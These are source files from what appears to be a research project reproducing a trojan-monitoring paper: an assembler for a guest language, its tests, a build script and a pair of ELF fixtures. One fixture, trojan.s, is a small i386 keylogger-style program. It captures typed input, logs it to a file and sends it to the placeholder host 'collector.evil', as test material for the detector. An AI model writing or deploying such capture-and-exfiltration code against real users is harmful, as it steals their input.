for p in trojan benign; do
	as --32 -o "$p.o" "$p.s"
	ld -m elf_i386 --build-id=sha1 -o "$p" "$p.o"
	rm -f "$p.o"
done
