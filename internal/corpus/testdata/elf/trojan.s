# A hand-assembled i386 trojan in the PWSteal mould (paper §2.1):
# capture user input, log it to a predefined file, then exfiltrate the
# collected file to a hardcoded collector address. Assembled by the
# real GNU toolchain (see build.sh) and loaded through the ELF32
# frontend; the syscall ABI is the Linux i386 convention the virtual
# OS implements (int $0x80, EAX=number, EBX/ECX/EDX arguments,
# socketcall multiplexing).
	.text
	.globl	_start
_start:
	# capture what the user types
	movl	$3, %eax		# read(0, keys, 16)
	movl	$0, %ebx
	movl	$keys, %ecx
	movl	$16, %edx
	int	$0x80
	movl	%eax, %esi
	# log it to the predefined file
	movl	$8, %eax		# creat("formlog.dat")
	movl	$logf, %ebx
	int	$0x80
	movl	%eax, fd
	movl	%eax, %ebx
	movl	$keys, %ecx
	movl	%esi, %edx
	movl	$4, %eax		# write(fd, keys, n)
	int	$0x80
	movl	fd, %ebx
	movl	$6, %eax		# close(fd)
	int	$0x80
exfil:
	# send the collected file to the hardcoded address
	movl	$5, %eax		# open("formlog.dat", O_RDONLY)
	movl	$logf, %ebx
	movl	$0, %ecx
	int	$0x80
	movl	%eax, %ebx
	movl	$buf, %ecx
	movl	$16, %edx
	movl	$3, %eax		# read(fd, buf, 16)
	int	$0x80
	movl	%eax, %esi
	movl	$102, %eax		# socketcall(SOCKET, ...)
	movl	$1, %ebx
	movl	$scargs, %ecx
	int	$0x80
	movl	%eax, scargs
	movl	$url, scargs+4
	movl	$102, %eax		# socketcall(CONNECT, [sock, url])
	movl	$3, %ebx
	movl	$scargs, %ecx
	int	$0x80
	movl	$buf, scargs+4
	movl	%esi, scargs+8
	movl	$102, %eax		# socketcall(SEND, [sock, buf, n])
	movl	$9, %ebx
	movl	$scargs, %ecx
	int	$0x80
	hlt

	.data
logf:	.asciz	"formlog.dat"
url:	.asciz	"collector.evil:80"
keys:	.space	16
buf:	.space	16
fd:	.space	4
scargs:	.space	12
