# The benign half of the ELF fixture pair: an echo-like filter that
# reads stdin and writes it back to stdout — user input flowing to the
# user's own terminal raises no policy concern. Exercises the
# SHT_NOBITS (.bss) path of the ELF frontend alongside trojan.s's
# initialized .data.
	.text
	.globl	_start
_start:
	movl	$3, %eax		# read(0, buf, 64)
	movl	$0, %ebx
	movl	$buf, %ecx
	movl	$64, %edx
	int	$0x80
	movl	%eax, %edx
	movl	$4, %eax		# write(1, buf, n)
	movl	$1, %ebx
	movl	$buf, %ecx
	int	$0x80
	movl	$1, %eax		# exit(0)
	movl	$0, %ebx
	int	$0x80

	.bss
buf:	.space	64
