package asm

import (
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"repro/internal/image"
	"repro/internal/isa"
)

// TestDisassemblyRoundTrip is a property test: the disassembly syntax
// of every instruction re-assembles to the identical instruction.
func TestDisassemblyRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(2006))

	randReg := func() isa.Reg { return isa.Reg(rng.Intn(int(isa.NumRegs))) }
	randImm := func() uint32 { return uint32(rng.Int63()) }
	randOperand := func(allowed ...isa.OperandKind) isa.Operand {
		switch allowed[rng.Intn(len(allowed))] {
		case isa.RegOperand:
			return isa.R(randReg())
		case isa.ImmOperand:
			return isa.Imm(randImm())
		case isa.MemOperand:
			switch rng.Intn(3) {
			case 0:
				return isa.Mem(randImm())
			case 1:
				return isa.MemBase(randReg(), 0)
			default:
				// Signed displacements exercise the +/- rendering.
				d := uint32(rng.Intn(1 << 16))
				if rng.Intn(2) == 0 {
					d = -d
				}
				return isa.MemBase(randReg(), d)
			}
		}
		return isa.Operand{}
	}

	anyKind := []isa.OperandKind{isa.RegOperand, isa.ImmOperand, isa.MemOperand}
	writable := []isa.OperandKind{isa.RegOperand, isa.MemOperand}

	randInstr := func() isa.Instr {
		switch rng.Intn(8) {
		case 0:
			return isa.Instr{Op: isa.NOP}
		case 1: // two-operand data ops
			ops := []isa.Op{isa.MOV, isa.MOVB, isa.ADD, isa.SUB, isa.AND,
				isa.OR, isa.XOR, isa.MUL, isa.DIVOP, isa.MODOP, isa.SHL,
				isa.SHR, isa.CMP, isa.TEST}
			return isa.Instr{
				Op: ops[rng.Intn(len(ops))],
				A:  randOperand(writable...),
				B:  randOperand(anyKind...),
			}
		case 2: // unary
			ops := []isa.Op{isa.NOT, isa.NEG, isa.INC, isa.DEC}
			return isa.Instr{Op: ops[rng.Intn(len(ops))], A: randOperand(writable...)}
		case 3:
			return isa.Instr{Op: isa.PUSH, A: randOperand(anyKind...)}
		case 4:
			return isa.Instr{Op: isa.POP, A: randOperand(writable...)}
		case 5: // branches with absolute targets
			ops := []isa.Op{isa.JMP, isa.JZ, isa.JNZ, isa.JL, isa.JLE,
				isa.JG, isa.JGE, isa.CALL}
			return isa.Instr{Op: ops[rng.Intn(len(ops))], A: randOperand(anyKind...)}
		case 6:
			return isa.Instr{Op: isa.LEA, A: isa.R(randReg()), B: randOperand(isa.MemOperand)}
		default:
			zero := []isa.Op{isa.RET, isa.CPUID, isa.RDTSC, isa.HLT}
			return isa.Instr{Op: zero[rng.Intn(len(zero))]}
		}
	}

	for trial := 0; trial < 200; trial++ {
		n := 1 + rng.Intn(20)
		want := make([]isa.Instr, n)
		var src strings.Builder
		src.WriteString(".text\n")
		for i := range want {
			want[i] = randInstr()
			fmt.Fprintf(&src, "    %s\n", want[i])
		}
		img, err := Assemble("rt", src.String())
		if err != nil {
			t.Fatalf("trial %d: %v\nsource:\n%s", trial, err, src.String())
		}
		got := img.Section(".text").Instrs
		if len(got) != n {
			t.Fatalf("trial %d: %d instrs, want %d", trial, len(got), n)
		}
		for i := range want {
			g := got[i]
			g.Line = 0
			w := want[i]
			if g != w {
				t.Fatalf("trial %d instr %d: got %+v, want %+v (text %q)",
					trial, i, g, w, w.String())
			}
		}
	}
}

// TestAssembleLoadExecuteRandomALU cross-checks the interpreter
// against a Go model on random straight-line arithmetic.
func TestAssembleLoadExecuteRandomALU(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	type op struct {
		mnem string
		fn   func(a, b uint32) uint32
	}
	ops := []op{
		{"add", func(a, b uint32) uint32 { return a + b }},
		{"sub", func(a, b uint32) uint32 { return a - b }},
		{"and", func(a, b uint32) uint32 { return a & b }},
		{"or", func(a, b uint32) uint32 { return a | b }},
		{"xor", func(a, b uint32) uint32 { return a ^ b }},
		{"mul", func(a, b uint32) uint32 { return a * b }},
		{"shl", func(a, b uint32) uint32 { return a << (b & 31) }},
		{"shr", func(a, b uint32) uint32 { return a >> (b & 31) }},
	}
	for trial := 0; trial < 50; trial++ {
		model := uint32(rng.Int63())
		var src strings.Builder
		fmt.Fprintf(&src, ".text\n_start:\n    mov eax, %d\n", model)
		for i := 0; i < 30; i++ {
			o := ops[rng.Intn(len(ops))]
			v := uint32(rng.Intn(1 << 20)) // keep shifts interesting
			if o.mnem == "shl" || o.mnem == "shr" {
				v = uint32(rng.Intn(32))
			}
			fmt.Fprintf(&src, "    %s eax, %d\n", o.mnem, v)
			model = o.fn(model, v)
		}
		src.WriteString("    hlt\n")

		img, err := Assemble("alu", src.String())
		if err != nil {
			t.Fatal(err)
		}
		// Execute on a bare CPU via a span built from the image.
		sec := img.Section(".text")
		cpu := isa.NewCPU()
		cpu.Code.Add(isa.NewSpan(0x1000, "alu", sec.Instrs, img.TextSymbols(sectionIndex(img, ".text"))))
		cpu.EIP = 0x1000
		for !cpu.Halted {
			if err := cpu.Step(); err != nil {
				t.Fatal(err)
			}
		}
		if cpu.Regs[isa.EAX] != model {
			t.Fatalf("trial %d: eax = %#x, model = %#x\n%s", trial, cpu.Regs[isa.EAX], model, src.String())
		}
	}
}

func sectionIndex(img *image.Image, name string) int {
	for i := range img.Sections {
		if img.Sections[i].Name == name {
			return i
		}
	}
	return -1
}
