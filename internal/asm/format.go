package asm

import "repro/internal/image"

// The text frontend registers behind the same format-agnostic decode
// chain as the ELF frontend, so loader.Open and the install APIs
// accept either representation. Detection is a cheap text heuristic
// (binary formats are sniffed by magic before this runs in
// registration order); a caller that knows it has assembly source
// forces this frontend with image.DecodeAs("asm", ...) instead, which
// keeps arbitrary text from being mis-sniffed and keeps the compile
// diagnostics (ErrorList) unwrapped — a program that fails to
// assemble is a bad program, not a malformed container.

func init() {
	image.RegisterFormat(image.Format{
		Name:   "asm",
		Detect: looksLikeSource,
		Decode: func(name string, data []byte) (*image.Image, error) {
			return Assemble(name, string(data))
		},
	})
}

// looksLikeSource reports whether data plausibly holds assembly text:
// no NUL bytes in the leading window. ELF (and any other binary
// format) is rejected by its magic so a crafted text file cannot
// shadow a binary frontend registered earlier.
func looksLikeSource(data []byte) bool {
	if image.IsELF(data) {
		return false
	}
	n := len(data)
	if n > 512 {
		n = 512
	}
	for i := 0; i < n; i++ {
		if data[i] == 0 {
			return false
		}
	}
	return true
}
