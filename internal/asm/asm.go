// Package asm assembles the textual guest assembly language into
// loadable images. The corpus programs used to reproduce the paper's
// evaluation (internal/corpus) are written in this language, so the
// assembler plays the role of the toolchain that produced the binaries
// HTH monitored in the paper.
//
// Syntax overview:
//
//	.image "a.out"          ; set the image name (optional)
//	.import "libc.so"       ; link against a shared object
//	.entry _start           ; entry symbol for executables
//	.text
//	_start:
//	    mov  ebx, path      ; symbol references relocate at load time
//	    mov  eax, 11        ; SYS_execve
//	    int  0x80
//	    hlt
//	.data
//	path: .asciz "/bin/ls"
//	buf:  .space 64
//
// Operands: registers (eax..edi), immediates (decimal, 0x hex,
// negative, 'c' char), symbols with optional ±offset, and memory
// operands [disp], [sym], [reg], [reg+disp], [reg+sym+disp].
// Comments run from ';' or '#' to end of line.
package asm

import (
	"fmt"
	"strconv"
	"strings"

	"repro/internal/image"
	"repro/internal/isa"
)

// Error is an assembly diagnostic with its source line.
type Error struct {
	Line int
	Msg  string
}

func (e *Error) Error() string { return fmt.Sprintf("line %d: %s", e.Line, e.Msg) }

// ErrorList is the set of diagnostics produced by one Assemble call.
type ErrorList []*Error

func (el ErrorList) Error() string {
	parts := make([]string, 0, len(el))
	for _, e := range el {
		parts = append(parts, e.Error())
	}
	return "asm: " + strings.Join(parts, "; ")
}

type assembler struct {
	img     *image.Image
	cur     int // current section index, -1 if none
	errs    ErrorList
	line    int
	natives map[string]int
}

// Assemble translates src into an image named name.
func Assemble(name, src string) (*image.Image, error) {
	a := &assembler{img: image.New(name), cur: -1, natives: map[string]int{}}
	for i, raw := range strings.Split(src, "\n") {
		a.line = i + 1
		a.doLine(raw)
		if len(a.errs) > 20 {
			break
		}
	}
	if len(a.errs) == 0 {
		a.checkUndefined()
	}
	if len(a.errs) > 0 {
		return nil, a.errs
	}
	if err := a.img.Validate(); err != nil {
		return nil, err
	}
	return a.img, nil
}

// checkUndefined reports symbols that cannot possibly resolve: images
// with no imports must define every referenced symbol themselves.
// Images with imports defer resolution to the loader.
func (a *assembler) checkUndefined() {
	if len(a.img.Imports) > 0 {
		return
	}
	seen := map[string]bool{}
	for _, r := range a.img.Relocs {
		if _, ok := a.img.Symbols[r.Symbol]; !ok && !seen[r.Symbol] {
			seen[r.Symbol] = true
			a.errorf("undefined symbol %q", r.Symbol)
		}
	}
	for _, r := range a.img.DataRels {
		if _, ok := a.img.Symbols[r.Symbol]; !ok && !seen[r.Symbol] {
			seen[r.Symbol] = true
			a.errorf("undefined symbol %q", r.Symbol)
		}
	}
}

// MustAssemble is Assemble for statically known-good sources (the
// corpus); it panics on error.
func MustAssemble(name, src string) *image.Image {
	img, err := Assemble(name, src)
	if err != nil {
		panic(err)
	}
	return img
}

func (a *assembler) errorf(format string, args ...any) {
	a.errs = append(a.errs, &Error{Line: a.line, Msg: fmt.Sprintf(format, args...)})
}

func stripComment(s string) string {
	inStr := false
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			if i == 0 || s[i-1] != '\\' {
				inStr = !inStr
			}
		case ';', '#':
			if !inStr {
				return s[:i]
			}
		}
	}
	return s
}

func (a *assembler) doLine(raw string) {
	s := strings.TrimSpace(stripComment(raw))
	// Labels (possibly several) at line start.
	for {
		idx := strings.Index(s, ":")
		if idx <= 0 {
			break
		}
		candidate := strings.TrimSpace(s[:idx])
		if !isIdent(candidate) {
			break
		}
		a.defineLabel(candidate)
		s = strings.TrimSpace(s[idx+1:])
	}
	if s == "" {
		return
	}
	if strings.HasPrefix(s, ".") {
		a.doDirective(s)
		return
	}
	a.doInstr(s)
}

func isIdent(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		ok := r == '_' || r == '.' ||
			(r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') ||
			(i > 0 && r >= '0' && r <= '9')
		if !ok {
			return false
		}
	}
	return true
}

func (a *assembler) section(name string, kind image.SectionKind) int {
	for i := range a.img.Sections {
		if a.img.Sections[i].Name == name {
			return i
		}
	}
	a.img.Sections = append(a.img.Sections, image.Section{Name: name, Kind: kind})
	return len(a.img.Sections) - 1
}

func (a *assembler) need(kind image.SectionKind) *image.Section {
	if a.cur < 0 {
		switch kind {
		case image.Text:
			a.cur = a.section(".text", image.Text)
		default:
			a.cur = a.section(".data", image.Data)
		}
	}
	return &a.img.Sections[a.cur]
}

func (a *assembler) defineLabel(name string) {
	sec := a.need(image.Text)
	if _, dup := a.img.Symbols[name]; dup {
		a.errorf("duplicate symbol %q", name)
		return
	}
	off := len(sec.Data)
	if sec.Kind == image.Text {
		off = len(sec.Instrs)
	}
	a.img.Symbols[name] = image.Symbol{Section: a.cur, Offset: off}
}

func (a *assembler) doDirective(s string) {
	fields := splitOperandsList(s)
	head := strings.Fields(fields[0])
	dir := head[0]
	rest := strings.TrimSpace(strings.TrimPrefix(fields[0], dir))
	args := append([]string{rest}, fields[1:]...)
	if rest == "" {
		args = fields[1:]
	}

	switch dir {
	case ".text":
		a.cur = a.section(".text", image.Text)
	case ".data":
		a.cur = a.section(".data", image.Data)
	case ".rodata":
		a.cur = a.section(".rodata", image.ROData)
	case ".image":
		if name, ok := a.quoted(args); ok {
			a.img.Name = name
		}
	case ".entry":
		if len(args) != 1 {
			a.errorf(".entry takes one symbol")
			return
		}
		a.img.Entry = strings.TrimSpace(args[0])
	case ".import":
		if name, ok := a.quoted(args); ok {
			a.img.Imports = append(a.img.Imports, name)
		}
	case ".global":
		// All symbols are global in this format; accepted for
		// familiarity.
	case ".asciz", ".ascii":
		sec := a.need(image.Data)
		if sec.Kind == image.Text {
			a.errorf("%s in text section", dir)
			return
		}
		str, ok := a.quoted(args)
		if !ok {
			return
		}
		sec.Data = append(sec.Data, []byte(str)...)
		if dir == ".asciz" {
			sec.Data = append(sec.Data, 0)
		}
	case ".byte":
		sec := a.need(image.Data)
		if sec.Kind == image.Text {
			a.errorf(".byte in text section")
			return
		}
		for _, arg := range args {
			v, ok := a.number(strings.TrimSpace(arg))
			if !ok {
				return
			}
			sec.Data = append(sec.Data, byte(v))
		}
	case ".word":
		sec := a.need(image.Data)
		if sec.Kind == image.Text {
			a.errorf(".word in text section")
			return
		}
		for _, arg := range args {
			arg = strings.TrimSpace(arg)
			if v, ok := a.tryNumber(arg); ok {
				sec.Data = append(sec.Data, byte(v), byte(v>>8), byte(v>>16), byte(v>>24))
				continue
			}
			sym, addend, ok := a.symbolExpr(arg)
			if !ok {
				a.errorf("bad .word operand %q", arg)
				return
			}
			a.img.DataRels = append(a.img.DataRels, image.DataReloc{
				Section: a.cur, Offset: len(sec.Data), Symbol: sym, Addend: addend,
			})
			sec.Data = append(sec.Data, 0, 0, 0, 0)
		}
	case ".space":
		sec := a.need(image.Data)
		if sec.Kind == image.Text {
			a.errorf(".space in text section")
			return
		}
		if len(args) < 1 {
			a.errorf(".space takes a size")
			return
		}
		n, ok := a.number(strings.TrimSpace(args[0]))
		if !ok {
			return
		}
		fill := byte(0)
		if len(args) > 1 {
			f, ok := a.number(strings.TrimSpace(args[1]))
			if !ok {
				return
			}
			fill = byte(f)
		}
		for i := uint32(0); i < n; i++ {
			sec.Data = append(sec.Data, fill)
		}
	case ".native":
		sec := a.need(image.Text)
		if sec.Kind != image.Text {
			a.errorf(".native outside text section")
			return
		}
		if len(args) != 1 {
			a.errorf(".native takes one name")
			return
		}
		name := strings.TrimSpace(args[0])
		idx, ok := a.natives[name]
		if !ok {
			idx = len(a.img.Natives)
			a.img.Natives = append(a.img.Natives, name)
			a.natives[name] = idx
		}
		sec.Instrs = append(sec.Instrs, isa.Instr{Op: isa.NATIVE, Native: idx, Line: a.line})
	default:
		a.errorf("unknown directive %s", dir)
	}
}

func (a *assembler) quoted(args []string) (string, bool) {
	if len(args) != 1 {
		a.errorf("expected one quoted string")
		return "", false
	}
	s := strings.TrimSpace(args[0])
	if len(s) < 2 || s[0] != '"' || s[len(s)-1] != '"' {
		a.errorf("expected quoted string, got %q", s)
		return "", false
	}
	out, err := unescape(s[1 : len(s)-1])
	if err != nil {
		a.errorf("%v", err)
		return "", false
	}
	return out, true
}

func unescape(s string) (string, error) {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c != '\\' {
			b.WriteByte(c)
			continue
		}
		i++
		if i >= len(s) {
			return "", fmt.Errorf("dangling escape")
		}
		switch s[i] {
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case 'r':
			b.WriteByte('\r')
		case '0':
			b.WriteByte(0)
		case '\\':
			b.WriteByte('\\')
		case '"':
			b.WriteByte('"')
		case 'x':
			if i+2 >= len(s) {
				return "", fmt.Errorf("truncated \\x escape")
			}
			v, err := strconv.ParseUint(s[i+1:i+3], 16, 8)
			if err != nil {
				return "", fmt.Errorf("bad \\x escape: %v", err)
			}
			b.WriteByte(byte(v))
			i += 2
		default:
			return "", fmt.Errorf("unknown escape \\%c", s[i])
		}
	}
	return b.String(), nil
}

// splitOperandsList is the allocating split for directives, which take
// arbitrarily many comma-separated arguments; commas inside quotes and
// brackets do not split.
func splitOperandsList(s string) []string {
	var out []string
	depth := 0
	inStr := false
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			if i == 0 || s[i-1] != '\\' {
				inStr = !inStr
			}
		case '[':
			if !inStr {
				depth++
			}
		case ']':
			if !inStr {
				depth--
			}
		case ',':
			if !inStr && depth == 0 {
				out = append(out, s[start:i])
				start = i + 1
			}
		}
	}
	return append(out, s[start:])
}

// splitOperands splits on commas that are outside quotes and brackets,
// filling out and returning the total segment count (segments past
// len(out) are counted but dropped — the caller rejects them anyway).
// A fixed output array keeps the per-instruction path allocation-free.
func splitOperands(s string, out *[3]string) int {
	n := 0
	put := func(seg string) {
		if n < len(out) {
			out[n] = seg
		}
		n++
	}
	depth := 0
	inStr := false
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			if i == 0 || s[i-1] != '\\' {
				inStr = !inStr
			}
		case '[':
			if !inStr {
				depth++
			}
		case ']':
			if !inStr {
				depth--
			}
		case ',':
			if !inStr && depth == 0 {
				put(s[start:i])
				start = i + 1
			}
		}
	}
	put(s[start:])
	return n
}

func (a *assembler) doInstr(s string) {
	sec := a.need(image.Text)
	if sec.Kind != image.Text {
		a.errorf("instruction outside text section")
		return
	}
	mnemonic := s
	rest := ""
	if i := strings.IndexAny(s, " \t"); i >= 0 {
		mnemonic, rest = s[:i], strings.TrimSpace(s[i+1:])
	}
	op, ok := isa.OpByName(strings.ToLower(mnemonic))
	if !ok {
		a.errorf("unknown mnemonic %q", mnemonic)
		return
	}
	var operands [3]string
	nOps := 0
	if rest != "" {
		nOps = splitOperands(rest, &operands)
	}
	in := isa.Instr{Op: op, Line: a.line}
	instrIdx := len(sec.Instrs)
	if nOps > 0 {
		in.A = a.parseOperand(strings.TrimSpace(operands[0]), instrIdx, image.SlotA)
	}
	if nOps > 1 {
		in.B = a.parseOperand(strings.TrimSpace(operands[1]), instrIdx, image.SlotB)
	}
	if nOps > 2 {
		a.errorf("too many operands")
		return
	}
	if err := checkArity(op, nOps); err != "" {
		a.errorf("%s", err)
		return
	}
	sec.Instrs = append(sec.Instrs, in)
}

// opArity maps each writable mnemonic to its [min, max] operand
// count; a package-level table so the per-instruction check is one
// map lookup with no construction cost.
var opArity = map[isa.Op][2]int{
	isa.NOP: {0, 0}, isa.HLT: {0, 0}, isa.RET: {0, 0},
	isa.CPUID: {0, 0}, isa.RDTSC: {0, 0},
	isa.MOV: {2, 2}, isa.MOVB: {2, 2}, isa.LEA: {2, 2},
	isa.ADD: {2, 2}, isa.SUB: {2, 2}, isa.AND: {2, 2}, isa.OR: {2, 2},
	isa.XOR: {2, 2}, isa.MUL: {2, 2}, isa.DIVOP: {2, 2}, isa.MODOP: {2, 2},
	isa.SHL: {2, 2}, isa.SHR: {2, 2},
	isa.CMP: {2, 2}, isa.TEST: {2, 2},
	isa.NOT: {1, 1}, isa.NEG: {1, 1}, isa.INC: {1, 1}, isa.DEC: {1, 1},
	isa.PUSH: {1, 1}, isa.POP: {1, 1},
	isa.JMP: {1, 1}, isa.JZ: {1, 1}, isa.JNZ: {1, 1},
	isa.JL: {1, 1}, isa.JLE: {1, 1}, isa.JG: {1, 1}, isa.JGE: {1, 1},
	isa.CALL: {1, 1}, isa.INT: {1, 1},
}

func checkArity(op isa.Op, n int) string {
	w, ok := opArity[op]
	if !ok {
		return fmt.Sprintf("mnemonic %v not writable in assembly", op)
	}
	if n < w[0] || n > w[1] {
		return fmt.Sprintf("%v takes %d operand(s), got %d", op, w[0], n)
	}
	return ""
}

// parseOperand parses a single operand, emitting a relocation when it
// references a symbol.
func (a *assembler) parseOperand(s string, instr int, slot image.OperandSlot) isa.Operand {
	if s == "" {
		a.errorf("empty operand")
		return isa.Operand{}
	}
	if s[0] == '[' {
		if s[len(s)-1] != ']' {
			a.errorf("unterminated memory operand %q", s)
			return isa.Operand{}
		}
		return a.parseMem(s[1:len(s)-1], instr, slot)
	}
	if r, ok := isa.RegByName(strings.ToLower(s)); ok {
		return isa.R(r)
	}
	if v, ok := a.tryNumber(s); ok {
		return isa.Imm(v)
	}
	sym, addend, ok := a.symbolExpr(s)
	if !ok {
		a.errorf("bad operand %q", s)
		return isa.Operand{}
	}
	a.img.Relocs = append(a.img.Relocs, image.Reloc{
		Section: a.cur, Instr: instr, Slot: slot, Symbol: sym,
	})
	return isa.Imm(addend)
}

// parseMem parses the inside of a bracketed memory operand: a sum of
// terms, each a register (at most one), a number, or a symbol (at most
// one, relocated).
func (a *assembler) parseMem(s string, instr int, slot image.OperandSlot) isa.Operand {
	op := isa.Operand{Kind: isa.MemOperand}
	haveSym := false
	for _, term := range splitTerms(s) {
		t := strings.TrimSpace(term.text)
		if t == "" {
			a.errorf("empty term in memory operand [%s]", s)
			return isa.Operand{}
		}
		if r, ok := isa.RegByName(strings.ToLower(t)); ok {
			if op.HasBase {
				a.errorf("two base registers in [%s]", s)
				return isa.Operand{}
			}
			if term.neg {
				a.errorf("negated register in [%s]", s)
				return isa.Operand{}
			}
			op.HasBase, op.Reg = true, r
			continue
		}
		if v, ok := a.tryNumber(t); ok {
			if term.neg {
				v = -v
			}
			op.Imm += v
			continue
		}
		if isIdent(t) {
			if haveSym || term.neg {
				a.errorf("bad symbol use in [%s]", s)
				return isa.Operand{}
			}
			haveSym = true
			a.img.Relocs = append(a.img.Relocs, image.Reloc{
				Section: a.cur, Instr: instr, Slot: slot, Symbol: t,
			})
			continue
		}
		a.errorf("bad term %q in memory operand", t)
		return isa.Operand{}
	}
	return op
}

type term struct {
	text string
	neg  bool
}

func splitTerms(s string) []term {
	var out []term
	start := 0
	neg := false
	for i := 0; i <= len(s); i++ {
		if i == len(s) || s[i] == '+' || s[i] == '-' {
			if i > start {
				out = append(out, term{text: s[start:i], neg: neg})
			}
			if i < len(s) {
				neg = s[i] == '-'
			}
			start = i + 1
		}
	}
	return out
}

// symbolExpr parses "sym", "sym+N" or "sym-N".
func (a *assembler) symbolExpr(s string) (sym string, addend uint32, ok bool) {
	idx := strings.IndexAny(s, "+-")
	if idx < 0 {
		if !isIdent(s) {
			return "", 0, false
		}
		return s, 0, true
	}
	name := strings.TrimSpace(s[:idx])
	if !isIdent(name) {
		return "", 0, false
	}
	v, okN := a.tryNumber(strings.TrimSpace(s[idx+1:]))
	if !okN {
		return "", 0, false
	}
	if s[idx] == '-' {
		v = -v
	}
	return name, v, true
}

func (a *assembler) number(s string) (uint32, bool) {
	v, ok := a.tryNumber(s)
	if !ok {
		a.errorf("bad number %q", s)
	}
	return v, ok
}

func (a *assembler) tryNumber(s string) (uint32, bool) {
	if s == "" {
		return 0, false
	}
	if len(s) >= 3 && s[0] == '\'' && s[len(s)-1] == '\'' {
		body, err := unescape(s[1 : len(s)-1])
		if err != nil || len(body) != 1 {
			return 0, false
		}
		return uint32(body[0]), true
	}
	neg := false
	if s[0] == '-' {
		neg = true
		s = s[1:]
	}
	if s == "" || s[0] < '0' || s[0] > '9' {
		// Not a number. The early out matters: most callers probe
		// symbol names through here, and ParseUint allocates an error
		// for every non-numeric string.
		return 0, false
	}
	v, err := strconv.ParseUint(s, 0, 32)
	if err != nil {
		return 0, false
	}
	out := uint32(v)
	if neg {
		out = -out
	}
	return out, true
}
