package asm

import (
	"strings"
	"testing"

	"repro/internal/image"
	"repro/internal/isa"
)

func mustAsm(t *testing.T, src string) *image.Image {
	t.Helper()
	img, err := Assemble("test.img", src)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	return img
}

func textSection(t *testing.T, img *image.Image) *image.Section {
	t.Helper()
	sec := img.Section(".text")
	if sec == nil {
		t.Fatal("no .text section")
	}
	return sec
}

func TestAssembleSimple(t *testing.T) {
	img := mustAsm(t, `
.text
_start:
    mov eax, 1
    mov ebx, 0
    int 0x80
`)
	sec := textSection(t, img)
	if len(sec.Instrs) != 3 {
		t.Fatalf("instrs = %d", len(sec.Instrs))
	}
	in := sec.Instrs[0]
	if in.Op != isa.MOV || in.A.Kind != isa.RegOperand || in.A.Reg != isa.EAX ||
		in.B.Kind != isa.ImmOperand || in.B.Imm != 1 {
		t.Errorf("instr 0 = %v", in)
	}
	if sym, ok := img.Symbols["_start"]; !ok || sym.Offset != 0 {
		t.Error("_start symbol wrong")
	}
}

func TestAssembleNumberForms(t *testing.T) {
	img := mustAsm(t, `
.text
    mov eax, 0x10
    mov ebx, -1
    mov ecx, 'A'
    mov edx, '\n'
`)
	ins := textSection(t, img).Instrs
	wants := []uint32{0x10, 0xFFFFFFFF, 65, 10}
	for i, w := range wants {
		if ins[i].B.Imm != w {
			t.Errorf("instr %d imm = %#x, want %#x", i, ins[i].B.Imm, w)
		}
	}
}

func TestAssembleMemoryOperands(t *testing.T) {
	img := mustAsm(t, `
.text
    mov eax, [0x2000]
    mov ebx, [esi]
    mov ecx, [esi+8]
    mov edx, [ebp-4]
    mov [edi+buf], eax
.data
buf: .space 4
`)
	ins := textSection(t, img).Instrs
	if ins[0].B.Kind != isa.MemOperand || ins[0].B.Imm != 0x2000 || ins[0].B.HasBase {
		t.Errorf("abs mem: %v", ins[0].B)
	}
	if !ins[1].B.HasBase || ins[1].B.Reg != isa.ESI || ins[1].B.Imm != 0 {
		t.Errorf("[esi]: %v", ins[1].B)
	}
	if ins[2].B.Imm != 8 {
		t.Errorf("[esi+8]: %v", ins[2].B)
	}
	if ins[3].B.Imm != ^uint32(3) {
		t.Errorf("[ebp-4]: imm = %#x", ins[3].B.Imm)
	}
	if !ins[4].A.HasBase || ins[4].A.Reg != isa.EDI {
		t.Errorf("[edi+buf]: %v", ins[4].A)
	}
	// The buf reference must have produced a relocation on slot A.
	found := false
	for _, r := range img.Relocs {
		if r.Symbol == "buf" && r.Instr == 4 && r.Slot == image.SlotA {
			found = true
		}
	}
	if !found {
		t.Errorf("missing reloc for buf: %+v", img.Relocs)
	}
}

func TestAssembleSymbolRefs(t *testing.T) {
	img := mustAsm(t, `
.text
start:
    jmp start
    call helper
    mov eax, msg
    mov ebx, msg+4
helper:
    ret
.data
msg: .asciz "hi"
`)
	if len(img.Relocs) != 4 {
		t.Fatalf("relocs = %d: %+v", len(img.Relocs), img.Relocs)
	}
	ins := textSection(t, img).Instrs
	if ins[3].B.Imm != 4 {
		t.Errorf("msg+4 addend = %d", ins[3].B.Imm)
	}
}

func TestAssembleDataDirectives(t *testing.T) {
	img := mustAsm(t, `
.data
a: .asciz "ab"
b: .ascii "cd"
c: .byte 1, 2, 0xFF
d: .word 0x11223344, a
e: .space 3, 0xEE
`)
	sec := img.Section(".data")
	if sec == nil {
		t.Fatal("no data section")
	}
	want := []byte{'a', 'b', 0, 'c', 'd', 1, 2, 0xFF, 0x44, 0x33, 0x22, 0x11, 0, 0, 0, 0, 0xEE, 0xEE, 0xEE}
	if len(sec.Data) != len(want) {
		t.Fatalf("data len = %d, want %d: %v", len(sec.Data), len(want), sec.Data)
	}
	for i := range want {
		if sec.Data[i] != want[i] {
			t.Errorf("data[%d] = %#x, want %#x", i, sec.Data[i], want[i])
		}
	}
	if len(img.DataRels) != 1 || img.DataRels[0].Symbol != "a" || img.DataRels[0].Offset != 12 {
		t.Errorf("data relocs: %+v", img.DataRels)
	}
}

func TestAssembleStringEscapes(t *testing.T) {
	img := mustAsm(t, `
.data
s: .asciz "a\nb\t\"q\"\x41\0z"
`)
	got := img.Section(".data").Data
	want := []byte("a\nb\t\"q\"A\x00z\x00")
	if string(got) != string(want) {
		t.Errorf("escapes: %q, want %q", got, want)
	}
}

func TestAssembleDirectivesMeta(t *testing.T) {
	img := mustAsm(t, `
.image "renamed.out"
.import "libc.so"
.entry main
.text
main: hlt
`)
	if img.Name != "renamed.out" {
		t.Errorf("name = %q", img.Name)
	}
	if len(img.Imports) != 1 || img.Imports[0] != "libc.so" {
